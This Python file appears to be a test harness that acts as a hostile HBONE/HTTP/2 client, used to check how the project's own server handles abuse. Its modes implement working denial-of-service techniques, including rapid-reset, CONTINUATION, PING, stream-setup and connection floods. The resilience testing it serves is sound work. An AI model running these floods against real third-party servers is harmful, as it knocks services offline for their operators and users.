#!/usr/bin/python3
"""A hostile HBONE client (python-h2 + the stdlib ssl module) holding a valid mesh certificate.

Each --mode is one way of abusing an HBONE server; the tests in dev.ambient.hbone run them against
our server and judge what the server did. Prints one JSON line at the end, whatever happened:

  {"mode": ..., "tls": true, "closed_after": seconds or null, "goaway": {"error_code": n,
   "last_stream_id": n, "debug": "...", "after": seconds} or null, "statuses": {"200": n, ...},
   "resets": {"7": n, ...}, "sent_streams": n, "error": null or "..."}

closed_after: when the server closed the connection (EOF or reset), seconds after the TCP connect;
null if it was still open when the client gave up (--wait) or the client closed first.

Modes:
  rapid-reset   HEADERS (CONNECT) then RST_STREAM(CANCEL) at once, --streams times, in batches of
                --batch, reading between batches; stops at the server's GOAWAY.
  idle          TLS, the HTTP/2 preface and SETTINGS, then nothing: how long until the server closes.
  no-preface    TLS handshake, then nothing at all.
  no-tls        TCP connect, then nothing.
  close-after-handshake   TLS handshake, then close the socket (with --preface: after the preface).
  close-mid-flood         preface, --streams CONNECTs (every other one reset), then close at once.
  setup-flood   --streams CONNECTs kept open (the first --reset-first of them reset right away, then
                the rest sent), then read for --wait seconds: statuses and resets per code.
  hold-stream   one CONNECT; sends --payload bytes every second for --hold seconds and expects them
                echoed; then ends the stream and waits (--wait) to see when the server closes.
  upload-then-reset   one CONNECT; --payload bytes (i % 251) sent as fast as the windows allow,
                then END_STREAM (not with --no-end) and at once RST_STREAM(--reset-code), as a peer
                whose side is complete may end (RFC 9113 8.1); --tunnels times, one after another
                on the connection; then reads for --wait seconds. Adds "sent_bytes" (all tunnels)
                and "sent_sha256" (of what the last one sent).
  big-header    one CONNECT carrying an extra header of --header-bytes bytes.
  continuation-flood      a HEADERS frame without END_HEADERS, then --streams CONTINUATION frames
                of one byte each that never end the header block.
  ping-flood    --streams PING frames, never reading the acknowledgements.

Modes with many connections (from --source when given), each printing its own summary instead:
  connect-flood --connections TCP connections opened at once, never sending a byte (no TLS), then
                watched for --wait seconds: how many the server closed, and how soon after connect.
                {"connections": n, "connected": n, "closed_within_1s": n, "closed_later": n,
                 "still_open": n, "error": ...}
  many-connections  --connections connections one after another, each with TLS (the --cert
                identity), the HTTP/2 preface and SETTINGS, all kept open; then watched for --wait
                seconds. {"connections": n, "tls": n, "settings": n, "goaways": {"11": n, ...},
                "goaway_debug": "...", "closed": n, "still_open": n, "kept": n (open, never told to
                go away), "errors": {...}}
"""

import argparse
import hashlib
import json
import os
import select
import selectors
import socket
import ssl
import sys
import time

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import h2.settings
import hyperframe.frame


def parse_address(text):
    host, sep, port = text.rpartition(":")
    if not sep or not host:
        raise argparse.ArgumentTypeError("expected ip:port, got %r" % text)
    return host.strip("[]"), int(port)


class Client:
    """One connection and what the server did on it."""

    def __init__(self, args):
        self.args = args
        self.start = time.monotonic()
        self.result = {"mode": args.mode, "tls": False, "closed_after": None, "goaway": None,
                       "statuses": {}, "resets": {}, "sent_streams": 0, "echoed": 0, "error": None}
        self.raw = socket.socket(socket.AF_INET6 if ":" in args.server[0] else socket.AF_INET, socket.SOCK_STREAM)
        self.raw.settimeout(10)
        if args.source:
            self.raw.bind((args.source, 0))
        self.raw.connect(args.server)
        self.raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock = self.raw
        self.conn = None
        self.open = True
        self.answered = {}
        self.out = bytearray()
        self.flushing = False

    def elapsed(self):
        return round(time.monotonic() - self.start, 3)

    def handshake(self):
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.minimum_version = ssl.TLSVersion.TLSv1_3
        ctx.check_hostname = False           # SPIFFE ids, not DNS names
        ctx.verify_mode = ssl.CERT_REQUIRED
        ctx.load_verify_locations(cafile=self.args.ca)
        ctx.load_cert_chain(certfile=self.args.cert, keyfile=self.args.key)
        ctx.set_alpn_protocols(["h2"])
        self.sock = ctx.wrap_socket(self.raw, server_hostname=None)
        self.result["tls"] = True

    def preface(self):
        self.conn = h2.connection.H2Connection(config=h2.config.H2Configuration(
            client_side=True, header_encoding="utf-8", validate_outbound_headers=False))
        # Never run out of connection window while flooding: the server sends little anyway.
        self.conn.initiate_connection()
        self.flush()

    def flush(self):
        """Sends what h2 has queued; while the server is slow to take it, reads what it says (as any
        HTTP/2 client does), so a GOAWAY is seen even while our own bytes are still going out."""
        self.out += self.conn.data_to_send()
        if self.flushing:
            return
        self.flushing = True
        try:
            while self.out and self.open:
                try:
                    self.sock.settimeout(0.05)
                    del self.out[:self.sock.send(self.out[:16384])]
                except (socket.timeout, ssl.SSLWantWriteError):
                    self.read(0.0)
                except (OSError, ssl.SSLError) as e:
                    self.closed("send failed: %s" % e)
        finally:
            self.flushing = False
            if self.open:
                self.sock.settimeout(10)

    def closed(self, why=None):
        if self.open:
            self.open = False
            self.result["closed_after"] = self.elapsed()
            if why and not self.result["error"]:
                self.result["closed_how"] = why

    def connect_headers(self, extra=()):
        return [(":method", "CONNECT"), (":authority", self.args.authority)] + list(extra)

    def read(self, timeout):
        """Reads what is there within timeout; returns False once the server closed."""
        if not self.open:
            return False
        if isinstance(self.sock, ssl.SSLSocket) and self.sock.pending():
            ready = True
        else:
            ready = readable(self.sock, timeout)
        if not ready:
            return True
        try:
            data = self.sock.recv(1 << 16)
        except (ssl.SSLWantReadError, BlockingIOError, socket.timeout):
            return True
        except (OSError, ssl.SSLError) as e:
            self.closed("recv failed: %s" % e)
            return False
        if not data:
            self.closed("eof")
            return False
        if self.conn is None:
            return True
        try:
            events = self.conn.receive_data(data)
        except h2.exceptions.H2Error as e:
            self.result["error"] = "http2: %r" % e
            self.closed("protocol error")
            return False
        for event in events:
            self.on_event(event)
        self.flush()
        return True

    def on_event(self, event):
        if isinstance(event, h2.events.ResponseReceived):
            status = dict(event.headers).get(":status")
            self.answered[event.stream_id] = status
            self.result["statuses"][status] = self.result["statuses"].get(status, 0) + 1
        elif isinstance(event, h2.events.StreamReset):
            code = str(int(event.error_code))
            self.result["resets"][code] = self.result["resets"].get(code, 0) + 1
        elif isinstance(event, h2.events.DataReceived):
            self.result["echoed"] += len(event.data)
            self.conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
        elif isinstance(event, h2.events.RemoteSettingsChanged):
            self.result["settings"] = True
        elif isinstance(event, h2.events.ConnectionTerminated) and self.result["goaway"] is None:
            self.result["goaway"] = {"error_code": int(event.error_code), "last_stream_id": event.last_stream_id,
                                     "debug": (event.additional_data or b"").decode("utf-8", "replace"),
                                     "after": self.elapsed()}

    def read_for(self, seconds, until=lambda: False):
        deadline = time.monotonic() + seconds
        while self.open and not until():
            remaining = deadline - time.monotonic()
            if remaining <= 0:
                return
            self.read(min(remaining, 0.2))

    def hang_up(self):
        """Closes with a FIN, as a client that simply goes away: what the server sent is read first
        (closing with unread data would make the kernel send a reset instead)."""
        try:
            self.sock.shutdown(socket.SHUT_WR)
        except OSError:
            pass
        quiet_until = time.monotonic() + 0.3
        while self.open and time.monotonic() < quiet_until:
            try:
                ready = readable(self.sock, 0.1)
                if ready and not self.sock.recv(1 << 16):
                    break
                if ready:
                    quiet_until = time.monotonic() + 0.3
            except (OSError, ssl.SSLError):
                break
        self.close()

    def close(self):
        self.open = False
        try:
            self.sock.close()
        except OSError:
            pass


def readable(sock, timeout):
    """select() cannot watch descriptors above 1023; the many-connection modes have more."""
    poller = select.poll()
    poller.register(sock, select.POLLIN)
    return bool(poller.poll(max(0.0, timeout) * 1000))


def connect_flood(args):
    family = socket.AF_INET6 if ":" in args.server[0] else socket.AF_INET
    sel = selectors.DefaultSelector()
    opened = {}
    result = {"mode": args.mode, "connections": args.connections, "connected": 0, "closed_within_1s": 0,
              "closed_later": 0, "still_open": 0, "error": None}
    try:
        for _ in range(args.connections):
            s = socket.socket(family, socket.SOCK_STREAM)
            if args.source:
                s.bind((args.source, 0))
            s.setblocking(False)
            s.connect_ex(args.server)          # EINPROGRESS: loopback completes it at once
            opened[s] = time.monotonic()
            sel.register(s, selectors.EVENT_READ)
        deadline = time.monotonic() + args.wait
        while opened and time.monotonic() < deadline:
            for key, _ in sel.select(0.1):
                s = key.fileobj
                try:
                    data = s.recv(1)
                except BlockingIOError:
                    continue
                except OSError:
                    data = b""             # reset by the server: closed as well
                if data:
                    continue               # the server has nothing to say before TLS: never happens
                after = time.monotonic() - opened.pop(s)
                result["closed_within_1s" if after < 1.0 else "closed_later"] += 1
                sel.unregister(s)
                s.close()
    except OSError as e:
        result["error"] = "%s: %s" % (type(e).__name__, e)
    result["still_open"] = len(opened)
    result["connected"] = result["closed_within_1s"] + result["closed_later"] + len(opened)
    for s in opened:
        s.close()
    return result


def many_connections(args):
    result = {"mode": args.mode, "connections": args.connections, "tls": 0, "settings": 0, "goaways": {},
              "goaway_debug": None, "closed": 0, "still_open": 0, "kept": 0, "errors": {}, "error": None}
    clients = []
    for _ in range(args.connections):
        c = None
        try:
            c = Client(args)
            clients.append(c)
            c.handshake()
            c.preface()
            c.read(0.0)
        except (OSError, ssl.SSLError, h2.exceptions.H2Error) as e:
            kind = type(e).__name__
            result["errors"][kind] = result["errors"].get(kind, 0) + 1
            if c is not None:
                c.closed("exception")
    deadline = time.monotonic() + args.wait
    while time.monotonic() < deadline and any(c.open for c in clients):
        for c in clients:
            c.read(0.0)
        time.sleep(0.05)
    for c in clients:
        r = c.result
        result["tls"] += 1 if r["tls"] else 0
        result["settings"] += 1 if r.get("settings") else 0
        if r["goaway"] is not None:
            code = str(r["goaway"]["error_code"])
            result["goaways"][code] = result["goaways"].get(code, 0) + 1
            result["goaway_debug"] = result["goaway_debug"] or r["goaway"]["debug"]
        if c.open:
            result["still_open"] += 1
            result["kept"] += 1 if r["goaway"] is None else 0
        else:
            result["closed"] += 1
        c.close()
    return result


def rapid_reset(c, args):
    c.handshake()
    c.preface()
    sent = 0
    while sent < args.streams and c.open and c.result["goaway"] is None:
        for _ in range(min(args.batch, args.streams - sent)):
            try:
                sid = c.conn.get_next_available_stream_id()
                c.conn.send_headers(sid, c.connect_headers())
                c.conn.reset_stream(sid, error_code=h2.errors.ErrorCodes.CANCEL)
            except h2.exceptions.ProtocolError as e:   # e.g. after the server's GOAWAY
                c.result["error"] = "cannot open more streams: %r" % e
                break
            sent += 1
        c.flush()
        c.read(0.0)
    c.result["sent_streams"] = sent
    # What the server does next: GOAWAY, then close (a graceful close may take a moment).
    c.read_for(args.wait, until=lambda: c.result["goaway"] is not None and not c.open)


def idle(c, args):
    c.handshake()
    c.preface()
    c.read_for(args.wait)


def no_preface(c, args):
    c.handshake()
    c.read_for(args.wait)


def no_tls(c, args):
    c.read_for(args.wait)
    if c.open:
        c.hang_up()


def close_after_handshake(c, args):
    c.handshake()
    if args.preface:
        c.preface()
    c.hang_up()


def close_mid_flood(c, args):
    c.handshake()
    c.preface()
    for i in range(args.streams):
        sid = c.conn.get_next_available_stream_id()
        c.conn.send_headers(sid, c.connect_headers())
        if i % 2:
            c.conn.reset_stream(sid, error_code=h2.errors.ErrorCodes.CANCEL)
        c.result["sent_streams"] += 1
    c.flush()
    c.hang_up()


def setup_flood(c, args):
    c.handshake()
    c.preface()
    c.read_for(0.5, until=lambda: c.conn.remote_settings.max_concurrent_streams is not None)
    for i in range(args.streams):
        sid = c.conn.get_next_available_stream_id()
        c.conn.send_headers(sid, c.connect_headers())
        if i < args.reset_first:
            c.conn.reset_stream(sid, error_code=h2.errors.ErrorCodes.CANCEL)
        c.result["sent_streams"] += 1
        if i + 1 == args.reset_first:
            # the reset ones reach the server first: their work is under way when the rest arrive
            c.flush()
            time.sleep(0.2)
    c.flush()
    c.read_for(args.wait)


def hold_stream(c, args):
    c.handshake()
    c.preface()
    sid = c.conn.get_next_available_stream_id()
    c.conn.send_headers(sid, c.connect_headers())
    c.flush()
    c.result["sent_streams"] = 1
    c.read_for(5, until=lambda: sid in c.answered)
    payload = os.urandom(args.payload)
    sent = 0
    for _ in range(int(args.hold)):
        if not c.open or c.answered.get(sid) != "200":
            break
        c.conn.send_data(sid, payload)
        sent += len(payload)
        c.flush()
        c.read_for(1.0)
    c.result["sent_bytes"] = sent
    if c.open:
        c.conn.end_stream(sid)
        c.flush()
        c.result["stream_ended_after"] = c.elapsed()
    c.read_for(args.wait)


def upload_then_reset(c, args):
    c.handshake()
    c.preface()
    c.result["sent_bytes"] = 0
    for _ in range(args.tunnels):
        if not c.open or not upload_one_then_reset(c, args):
            break
    c.read_for(args.wait)


def upload_one_then_reset(c, args):
    sid = c.conn.get_next_available_stream_id()
    c.conn.send_headers(sid, c.connect_headers())
    c.flush()
    c.result["sent_streams"] += 1
    c.read_for(5, until=lambda: sid in c.answered)
    if c.answered.get(sid) != "200":
        return False
    payload = (bytes(range(251)) * (args.payload // 251 + 1))[:args.payload]
    sent = 0
    deadline = time.monotonic() + 30
    while sent < len(payload) and c.open and time.monotonic() < deadline:
        n = min(c.conn.local_flow_control_window(sid), c.conn.max_outbound_frame_size, len(payload) - sent)
        if n <= 0:
            c.read(0.2)   # out of window: the server's WINDOW_UPDATE comes when it has read
            continue
        c.conn.send_data(sid, payload[sent:sent + n])
        sent += n
        c.flush()
    c.result["sent_bytes"] += sent
    c.result["sent_sha256"] = hashlib.sha256(payload[:sent]).hexdigest()
    if c.open:
        if not args.no_end:
            c.conn.end_stream(sid)
        c.conn.reset_stream(sid, error_code=args.reset_code)
        c.flush()
        c.result["reset_after"] = c.elapsed()
    return c.open


def big_header(c, args):
    c.handshake()
    c.preface()
    sid = c.conn.get_next_available_stream_id()
    c.conn.send_headers(sid, c.connect_headers([("x-padding", "p" * args.header_bytes)]))
    c.flush()
    c.result["sent_streams"] = 1
    c.read_for(args.wait, until=lambda: sid in c.answered or c.result["resets"])
    c.result["max_header_list_size"] = c.conn.remote_settings.max_header_list_size


def continuation_flood(c, args):
    c.handshake()
    c.preface()
    block = c.conn.encoder.encode([(":method", "CONNECT"), (":authority", args.authority)])
    headers = hyperframe.frame.HeadersFrame(1, data=block[:1])   # no END_HEADERS: a block left open
    raw = bytearray(headers.serialize())
    for _ in range(args.streams):
        raw += hyperframe.frame.ContinuationFrame(1, data=b"\x00").serialize()
    c.conn.data_to_send()   # h2 knows nothing of these frames; they go out as they are
    c.out += raw
    c.flush()
    c.result["sent_streams"] = 1
    c.read_for(args.wait, until=lambda: c.result["goaway"] is not None and not c.open)


def ping_flood(c, args):
    c.handshake()
    c.preface()
    frame = hyperframe.frame.PingFrame(0, opaque_data=b"hostile!").serialize()
    c.sock.settimeout(2)
    sent = 0
    try:
        for _ in range(args.streams // 1000):
            c.sock.sendall(frame * 1000)
            sent += 1000
    except socket.timeout:
        c.result["send_blocked"] = True   # the server stopped taking them: it may be closing
    except (OSError, ssl.SSLError) as e:
        c.closed("send failed: %s" % e)
    c.result["sent_pings"] = sent
    if c.open:
        c.read_for(args.wait, until=lambda: not c.open)


MODES = {"rapid-reset": rapid_reset, "idle": idle, "no-preface": no_preface, "no-tls": no_tls,
         "close-after-handshake": close_after_handshake, "close-mid-flood": close_mid_flood,
         "setup-flood": setup_flood, "hold-stream": hold_stream, "upload-then-reset": upload_then_reset, "big-header": big_header,
         "continuation-flood": continuation_flood, "ping-flood": ping_flood}
MANY = {"connect-flood": connect_flood, "many-connections": many_connections}


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--mode", required=True, choices=sorted(list(MODES) + list(MANY)))
    p.add_argument("--server", required=True, type=parse_address, help="HBONE server ip:port")
    p.add_argument("--cert", required=True, help="client certificate chain (PEM, leaf first)")
    p.add_argument("--key", required=True, help="client private key (PEM)")
    p.add_argument("--ca", required=True, help="trusted root certificate(s) (PEM)")
    p.add_argument("--authority", default="127.0.0.1:9", help="CONNECT :authority")
    p.add_argument("--streams", type=int, default=1000)
    p.add_argument("--batch", type=int, default=50)
    p.add_argument("--reset-first", type=int, default=0)
    p.add_argument("--wait", type=float, default=5.0, help="seconds to watch the server afterwards")
    p.add_argument("--hold", type=float, default=3.0)
    p.add_argument("--payload", type=int, default=1000)
    p.add_argument("--header-bytes", type=int, default=20000)
    p.add_argument("--preface", action="store_true")
    p.add_argument("--no-end", action="store_true", help="upload-then-reset: no END_STREAM before the reset")
    p.add_argument("--reset-code", type=int, default=0, help="upload-then-reset: RST_STREAM error code")
    p.add_argument("--tunnels", type=int, default=1, help="upload-then-reset: CONNECTs, one after another")
    p.add_argument("--source", help="local address to connect from")
    p.add_argument("--connections", type=int, default=100)
    args = p.parse_args()

    if args.mode in MANY:
        print(json.dumps(MANY[args.mode](args)), flush=True)
        return 0

    c = None
    result = {"mode": args.mode, "error": None}
    try:
        c = Client(args)
        result = c.result
        MODES[args.mode](c, args)
    except (OSError, ssl.SSLError, h2.exceptions.H2Error) as e:
        result["error"] = "%s: %s" % (type(e).__name__, e)
        if c is not None:
            c.closed("exception")
    finally:
        if c is not None:
            c.close()
    print(json.dumps(result), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
